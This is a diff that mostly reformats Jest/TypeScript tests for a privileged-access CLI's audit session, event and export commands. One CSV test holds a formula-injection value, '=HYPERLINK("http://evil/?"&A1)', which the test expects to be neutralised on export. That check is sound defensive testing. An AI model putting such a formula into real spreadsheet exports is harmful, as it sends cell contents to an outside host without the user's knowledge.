@@ -24,11 +24,28 @@ describe('access audit sessions', () => {
   it('sends each filter (a duration as typed, a time as an instant) and lists the sessions newest first', async () => {
     const until = '2025-03-04T12:00:00.000Z';
     const path = `/v1/audit/sessions?user=alice%40contoso.com&resource=prod-db&since=7d&until=${encodeURIComponent(until)}&limit=100`;
-    const h = harness({ routes: { [`GET ${path}`]: () => ({ sessions: [sessionView(), sessionView({ id: 's2', closedAt: null, endReason: null, bytesUp: 0, bytesDown: 0, queries: null, reason: null })] }) } });
+    const h = harness({
+      routes: {
+        [`GET ${path}`]: () => ({
+          sessions: [sessionView(), sessionView({ id: 's2', closedAt: null, endReason: null, bytesUp: 0, bytesDown: 0, queries: null, reason: null })],
+        }),
+      },
+    });
     expect(await h.run('audit', 'sessions', '--user', 'alice@contoso.com', '--resource', 'prod-db', '--since', '7d', '--until', '2025-03-04T12:00Z')).toBe(0);
     const [header, first, second] = h.stdout().split('\n');
     expect(header?.split(/\s{2,}/)).toEqual(['SESSION', 'OPENED', 'USER', 'RESOURCE', 'LASTED', 'UP', 'DOWN', 'QUERIES', 'END', 'REASON']);
-    expect(first?.split(/\s{2,}/)).toEqual(['s1a2b3', expect.stringMatching(/^(?:\d{4}-\d\d-\d\d )?(?:yesterday |tomorrow )?\d\d:\d\d$/), 'alice@contoso.com', 'prod-db', '3m', '812 B', '4.0 KiB', '3', 'client closed', 'INC-4211: stuck migration']);
+    expect(first?.split(/\s{2,}/)).toEqual([
+      's1a2b3',
+      expect.stringMatching(/^(?:\d{4}-\d\d-\d\d )?(?:yesterday |tomorrow )?\d\d:\d\d$/),
+      'alice@contoso.com',
+      'prod-db',
+      '3m',
+      '812 B',
+      '4.0 KiB',
+      '3',
+      'client closed',
+      'INC-4211: stuck migration',
+    ]);
     expect(second?.split(/\s{2,}/)).toEqual(['s2', expect.any(String), 'alice@contoso.com', 'prod-db', 'open', '0 B', '0 B', '-', 'open', '-']);
     expect(h.stderr()).toBe('');
   });
@@ -42,9 +59,39 @@ describe('access audit sessions', () => {
     expect(await h.run('audit', 'sessions', '--csv')).toBe(0);
     const [header, first, second, ...rest] = parseCsv(h.stdout());
     expect(rest).toEqual([]);
-    expect(header).toEqual(['session_id', 'request_id', 'user', 'user_oid', 'resource', 'target', 'client', 'opened_at', 'closed_at', 'bytes_up', 'bytes_down', 'queries', 'end_reason', 'reason']);
+    expect(header).toEqual([
+      'session_id',
+      'request_id',
+      'user',
+      'user_oid',
+      'resource',
+      'target',
+      'client',
+      'opened_at',
+      'closed_at',
+      'bytes_up',
+      'bytes_down',
+      'queries',
+      'end_reason',
+      'reason',
+    ]);
     const s = sessions[0]!;
-    expect(first).toEqual([s.id, s.requestId, 'alice@contoso.com', 'oid-alice', 'prod-db', '10.0.0.5:5432', '127.0.0.1', s.openedAt, s.closedAt, '812', '4096', '3', 'clientClosed', 'INC-7, "the big one"']);
+    expect(first).toEqual([
+      s.id,
+      s.requestId,
+      'alice@contoso.com',
+      'oid-alice',
+      'prod-db',
+      '10.0.0.5:5432',
+      '127.0.0.1',
+      s.openedAt,
+      s.closedAt,
+      '812',
+      '4096',
+      '3',
+      'clientClosed',
+      'INC-7, "the big one"',
+    ]);
     expect(second?.slice(8)).toEqual(['', '', '', '', '', `'=HYPERLINK("http://evil/?"&A1)`]);
   });
 
@@ -78,7 +125,7 @@ describe('access audit sessions', () => {
     expect(h.log).toEqual([]);
   });
 
-  it('ends with exit 3 and the broker\'s words for someone who is not an auditor', async () => {
+  it("ends with exit 3 and the broker's words for someone who is not an auditor", async () => {
     const h = harness({ routes: { 'GET /v1/audit/sessions?limit=100': refuse } });
     expect(await h.run('audit', 'sessions')).toBe(3);
     expect(h.stderr()).toBe(`error: ${NOT_AN_AUDITOR.message}\n`);
@@ -98,7 +145,11 @@ describe('access audit show', () => {
       entryView(6, { type: 'request.approved', actor: bob, body: { expiresAt: new Date(NOW + 3_600_000).toISOString(), approvers: ['bob@contoso.com'] } }),
       entryView(8, { type: 'session.opened', subject: 's1a2b3', body: { requestId: 'r7f3c0a1b2', client: '127.0.0.1', target: '10.0.0.5:5432' } }),
       entryView(9, { type: 'pg.query', subject: 's1a2b3', body: { sql: 'select count(*)\nfrom orders', protocol: 'simple' } }),
-      entryView(11, { type: 'session.closed', subject: 's1a2b3', body: { requestId: 'r7f3c0a1b2', bytesUp: 812, bytesDown: 4096, endReason: 'clientClosed', detail: null, queries: 1 } }),
+      entryView(11, {
+        type: 'session.closed',
+        subject: 's1a2b3',
+        body: { requestId: 'r7f3c0a1b2', bytesUp: 812, bytesDown: 4096, endReason: 'clientClosed', detail: null, queries: 1 },
+      }),
     ],
     truncated: false,
   };
@@ -115,7 +166,14 @@ describe('access audit show', () => {
     expect(rows).toEqual([
       ['#4', timestamp(story.entries[0]!.at), 'request.created', 'alice@contoso.com', 'r7f3c0a1b2', 'asked for 1h — "INC-4211: stuck migration"'],
       ['#5', timestamp(story.entries[1]!.at), 'request.review_recorded', 'bob@contoso.com', 'r7f3c0a1b2', 'approved — "go ahead"'],
-      ['#6', timestamp(story.entries[2]!.at), 'request.approved', 'bob@contoso.com', 'r7f3c0a1b2', expect.stringMatching(/^granted, access until .* \(approved by bob@contoso\.com\)$/)],
+      [
+        '#6',
+        timestamp(story.entries[2]!.at),
+        'request.approved',
+        'bob@contoso.com',
+        'r7f3c0a1b2',
+        expect.stringMatching(/^granted, access until .* \(approved by bob@contoso\.com\)$/),
+      ],
       ['#8', timestamp(story.entries[3]!.at), 'session.opened', 'alice@contoso.com', 's1a2b3', 'tunnel opened from 127.0.0.1 to 10.0.0.5:5432'],
       ['#9', timestamp(story.entries[4]!.at), 'pg.query', 'alice@contoso.com', 's1a2b3', 'select count(*) from orders'],
       ['#11', timestamp(story.entries[5]!.at), 'session.closed', 'alice@contoso.com', 's1a2b3', 'tunnel closed (client closed): ↑812 B ↓4.0 KiB, 1 query'],
@@ -153,7 +211,13 @@ describe('access audit events', () => {
     const entries = [entryView(8), entryView(9)];
     const h = harness({ routes: { [`GET ${eventsPath(7, { since: '1h', limit: PAGE_ENTRIES })}`]: () => pageOf(entries, 7, 9) } });
     expect(await h.run('audit', 'events', '--jsonl', '--after-seq', '7', '--since', '1h')).toBe(0);
-    expect(h.stdout().trimEnd().split('\n').map((line) => JSON.parse(line) as unknown)).toEqual(entries);
+    expect(
+      h
+        .stdout()
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line) as unknown),
+    ).toEqual(entries);
   });
 
   it('--follow starts at the head, long-polls for what comes next, and ends 0 on Ctrl-C', async () => {
@@ -217,7 +281,13 @@ describe('access audit export', () => {
     const entries = [entryView(11), entryView(12), entryView(13)];
     const h = harness({ routes: { [`GET ${eventsPath(10, { limit: PAGE_ENTRIES })}`]: () => pageOf(entries, 10, 13) } });
     expect(await h.run('audit', 'export', '--jsonl', '--after-seq', '10')).toBe(0);
-    expect(h.stdout().split('\n').filter(Boolean).map((line) => JSON.parse(line) as unknown)).toEqual(entries);
+    expect(
+      h
+        .stdout()
+        .split('\n')
+        .filter(Boolean)
+        .map((line) => JSON.parse(line) as unknown),
+    ).toEqual(entries);
     expect(h.stderr()).toBe('Exported 3 entries (#11 to #13) — the next export resumes with --after-seq 13\n');
   });
 
